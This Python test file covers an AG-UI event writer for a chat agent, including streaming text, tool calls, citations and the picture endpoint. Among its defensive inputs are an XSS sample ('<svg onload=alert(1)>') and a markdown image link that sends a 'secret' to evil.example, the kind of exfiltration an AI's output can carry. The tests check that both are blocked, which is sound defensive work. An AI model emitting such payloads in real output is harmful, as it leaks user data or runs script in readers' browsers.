"""Runs as events of AG-UI: whole messages, safe links, and streams within bounds."""

import asyncio
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from typing import Any, cast

import pytest
from ag_ui.core import Event
from pydantic import TypeAdapter
from starlette.requests import Request

from rich_agent.domain.runs import Run, RunAsked, RunEvent, RunEventKind
from rich_agent.features.web_chat.agui.endpoints import RunStream
from rich_agent.features.web_chat.agui.events import EventWriter
from rich_agent.features.web_chat.agui.places import PictureEndpoint, Places
from rich_agent.ports.runs import Runs, TurnPictures
from rich_agent.web.access import Caller
from rich_agent.web.refusals import RequestRefusedError

_EVENT: TypeAdapter[Any] = TypeAdapter(Event)
RUN = Run(-1, 42, "r", "t", RunAsked("What?"))
Told = tuple[RunEventKind, dict[str, Any]]
CITED = {
    "number": 1,
    "id": "c1",
    "kind": "internal",
    "source_url": "https://docs.example/a",
    "link": "https://docs.example/a#b",
    "title": "A",
    "section": "B",
}
BEGUN: Told = ("started", {})
ENDED: Told = ("ended", {"outcome": "success"})


def numbered(*events: Told) -> list[RunEvent]:
    """The events of a run."""
    return [RunEvent(seq, kind, data) for seq, (kind, data) in enumerate(events, start=1)]


def text(delta: str) -> Told:
    """The answer grows."""
    return "text", {"message": 0, "delta": delta}


def answer(whole: str, *citations: dict[str, Any]) -> Told:
    """The answer is complete."""
    return "answer", {"message": 0, "text": whole, "citations": list(citations)}


def written(*events: Told) -> list[dict[str, Any]]:
    """The run, in which AG-UI's own models find nothing wrong."""
    writer = EventWriter(RUN, Places.below(), [{"id": "m", "role": "user", "content": "What?"}])
    made = [*writer.opening(), *(one for event in numbered(*events) for one in writer.take(event))]
    for one in made:
        assert not _EVENT.validate_python(one).model_extra, one
    return made


def types(events: list[dict[str, Any]]) -> list[str]:
    """The kinds of the events."""
    return [one["type"] for one in events]


def test_text_that_was_replaced_comes_with_all_messages() -> None:
    """Under the id that it had, after the message that grew is closed."""
    other: Told = ("rewritten", {"message": 0, "text": "It is blue."})
    events = written(BEGUN, text("It is red.\n"), other, answer("It is blue."), ENDED)
    snapshot = events[-2]
    assert types(events)[-4:-1] == ["TEXT_MESSAGE_CONTENT", "TEXT_MESSAGE_END", "MESSAGES_SNAPSHOT"]
    assert [one["id"] for one in snapshot["messages"]] == ["m", "r:0"]
    assert snapshot["messages"][1]["content"] == "It is blue."


def test_sources_are_links_below_the_text_and_a_list() -> None:
    """The grown text stays, and the definitions of its marks are appended."""
    events = written(BEGUN, text("It is so [1].\n"), answer("It is so [1].\n", CITED), ENDED)
    whole = "".join(one.get("delta", "") for one in events)
    assert whole.startswith("It is so [1].")
    assert "[1]: <https://docs.example/a#b>" in whole
    assert events[-1]["result"]["text"] == whole
    assert events[-1]["result"]["sources"][0]["url"] == "https://docs.example/a#b"


def test_passage_of_a_local_file_has_an_address() -> None:
    """Its page at the bot; what no browser opens has none."""
    document = {**CITED, "kind": "document", "link": "file:///srv/a.md#b", "id": "a:0/1"}
    photo = {**document, "number": 2, "kind": "photo"}
    shown = Places.below("https://bot.example").sources([document, photo])  # type: ignore[list-item]
    assert [one["url"] for one in shown] == ["https://bot.example/passages/a%3A0%2F1", ""]
    (unknown,) = Places.below().sources([document])  # type: ignore[list-item]
    assert unknown["url"] == ""


@pytest.mark.parametrize("data", [b"<svg onload=alert(1)>", b"<html>", b""])
async def test_picture_is_none_whatever_it_is_called(data: bytes) -> None:
    """Only bytes that begin like a picture are given out."""

    class Sent:
        async def pictures(self, *_: object) -> TurnPictures:
            return TurnPictures(["photo"])

        async def fetch(self, _: str) -> bytes:
            return data

    endpoint = PictureEndpoint(cast("Runs", Sent()), Sent())
    scope = {"type": "http", "headers": [], "path_params": {"request_id": "tg:1", "name": "0"}}
    with pytest.raises(RequestRefusedError):
        await endpoint.answer(Request(scope), Caller(42, frozenset(), None))


def test_link_that_leads_elsewhere_is_no_link() -> None:
    """Not while the text grows, nor in a question, nor when it is complete."""
    evil = "![x](https://evil.example/?q=secret)"
    asked = {"request_id": "q", "question": evil, "choices": [], "approves": "", "calls": []}
    grown = written(BEGUN, text(evil), answer(evil), ENDED)
    waiting = written(BEGUN, ("question", asked), ("ended", {"outcome": "question"}))
    for events in (grown, waiting):
        assert evil not in str(events)
        assert "evil.example" in str(events)


def test_text_before_tools_is_a_message_of_its_own() -> None:
    """It is whole before the call; the call belongs to it."""
    events = written(
        BEGUN,
        text("I look it up [h"),
        ("called", {"id": "c", "name": "look", "arguments": {"x": 1}, "message": 0}),
        ("returned", {"id": "c", "status": "success", "content": "found", "message": 1}),
        ENDED,
    )
    start = events[types(events).index("TOOL_CALL_START")]
    said = "".join(one["delta"] for one in events if one["type"] == "TEXT_MESSAGE_CONTENT")
    assert said.startswith("I look it up")
    assert said.endswith("[h")
    assert start["parentMessageId"] == "r:0"
    assert types(events).index("TEXT_MESSAGE_END") < types(events).index("TOOL_CALL_START")


def calling(delta: str, call_id: str = "c") -> Told:
    """A call of which more is written."""
    return "calling", {"id": call_id, "name": "look", "delta": delta, "message": 0}


def called(**arguments: Any) -> Told:
    """The whole call."""
    return "called", {"id": "c", "name": "look", "arguments": arguments, "message": 0}


def arguments_in(events: list[dict[str, Any]]) -> str:
    """The text that somebody reads who appends."""
    return "".join(one["delta"] for one in events if one["type"] == "TOOL_CALL_ARGS")


def test_call_grows_and_ends_as_it_was_written() -> None:
    """In as many pieces as came, also if the model sets no spaces."""
    events = written(BEGUN, text("I look.\n"), calling('{"x":'), calling("1}"), called(x=1), ENDED)
    assert arguments_in(events) == '{"x":1}'
    begun = types(events).index("TOOL_CALL_START")
    assert types(events)[begun - 1 : begun + 4] == [
        "TEXT_MESSAGE_END",
        "TOOL_CALL_START",
        "TOOL_CALL_ARGS",
        "TOOL_CALL_ARGS",
        "TOOL_CALL_END",
    ]
    assert "MESSAGES_SNAPSHOT" not in types(events)
    assert arguments_in(written(BEGUN, calling('{"x": '), called(x=1), ENDED)) == '{"x": 1}'


def test_call_that_became_another_comes_with_all_messages() -> None:
    """Arguments that were appended cannot be taken back."""
    events = written(BEGUN, calling('{"x": 7'), called(x=1), ENDED)
    (snapshot,) = [one for one in events if one["type"] == "MESSAGES_SNAPSHOT"]
    (call,) = snapshot["messages"][1]["toolCalls"]
    assert call["function"] == {"name": "look", "arguments": '{"x": 1}'}


def test_call_that_the_model_thought_better_of_is_dropped() -> None:
    """It ends, and the messages are without it, when another text is the answer."""
    events = written(BEGUN, calling('{"x'), text("Hello"), answer("Hello"), ENDED)
    assert types(events).count("TOOL_CALL_END") == 1
    (snapshot,) = [one for one in events if one["type"] == "MESSAGES_SNAPSHOT"]
    assert "toolCalls" not in str(snapshot)
    assert events[-1]["result"]["text"] == "Hello"


def test_run_that_was_given_up_ends_with_words() -> None:
    """Also when nothing is known of why."""
    events = written(("ended", {"outcome": "error"}))
    assert events[-1]["type"] == "RUN_ERROR"
    assert events[-1]["message"]


class FollowedRuns:
    """A run that is followed: batches, and how many of them were fetched."""

    def __init__(self, *batches: Sequence[RunEvent]) -> None:
        self.batches = batches
        self.fetched = 0

    @asynccontextmanager
    async def following(self, *_: object, **__: object) -> AsyncIterator[AsyncIterator[Any]]:
        """See `Runs.following`."""

        async def follow() -> AsyncIterator[Sequence[RunEvent]]:
            for batch in self.batches:
                self.fetched += 1
                yield batch

        yield follow()


async def test_stream_is_kept_alive_by_comments_and_goes_on_behind_a_number() -> None:
    """A comment is no event: it has no number."""
    events = numbered(BEGUN, text("a\n"), answer("a\n"), ENDED)
    runs = cast("Runs", FollowedRuns(events[:1], (), events[1:]))
    writers = (EventWriter(RUN, Places.below()) for _ in range(2))
    whole = [line async for line in RunStream(runs, next(writers)).lines()]
    assert whole[4] == ":\n\n"
    rest = [
        line async for line in RunStream(runs, EventWriter(RUN, Places.below()), skip=4).lines()
    ]
    assert rest == [":\n\n", *whole[5:]]


async def test_long_answer_with_sources_holds_nobody_up() -> None:
    """All of it is guarded when its sources are known; meanwhile others come to work."""
    worked = 0

    async def work() -> None:
        nonlocal worked
        while True:
            await asyncio.sleep(0)
            worked += 1

    followed = FollowedRuns(numbered(BEGUN, answer("- " * 50_000, CITED), ENDED))
    others = asyncio.create_task(work())
    lines = RunStream(cast("Runs", followed), EventWriter(RUN, Places.below())).lines()
    assert [line async for line in lines]
    others.cancel()
    assert worked > 5


async def test_stream_that_nobody_reads_fetches_nothing_more() -> None:
    """Events that a slow reader has not taken wait in the database."""
    followed = FollowedRuns(*([event] for event in numbered(*[text("x\n") for _ in range(50)])))
    lines = RunStream(cast("Runs", followed), EventWriter(RUN, Places.below())).lines()
    for _ in range(4):
        await anext(lines)
    await asyncio.sleep(0)
    assert followed.fetched <= 3
